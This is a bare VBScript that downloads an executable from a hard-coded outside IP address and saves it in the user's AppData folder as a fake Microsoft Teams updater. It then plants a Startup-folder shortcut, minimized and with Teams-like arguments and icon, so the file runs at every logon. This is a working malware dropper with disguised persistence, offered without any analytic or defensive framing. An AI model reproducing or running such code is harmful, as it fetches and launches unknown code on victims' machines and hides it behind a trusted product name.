Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
startup = sh.SpecialFolders("Startup")
payload = sh.ExpandEnvironmentStrings("%LOCALAPPDATA%") & "\Microsoft\Teams\Update.exe"
If Not fso.FileExists(payload) Then
    Set h = CreateObject("WinHttp.WinHttpRequest.5.1")
    h.Open "GET", "http://203.0.113.176/t/Update.exe", False
    h.Send
    Set s = CreateObject("ADODB.Stream")
    s.Type = 1: s.Open: s.Write h.ResponseBody: s.SaveToFile payload, 2: s.Close
End If
Set lnk = sh.CreateShortcut(startup & "\Microsoft Teams Update.lnk")
lnk.TargetPath = payload
lnk.Arguments = "--processStart Teams.exe"
lnk.IconLocation = payload & ",0"
lnk.WindowStyle = 7
lnk.Save
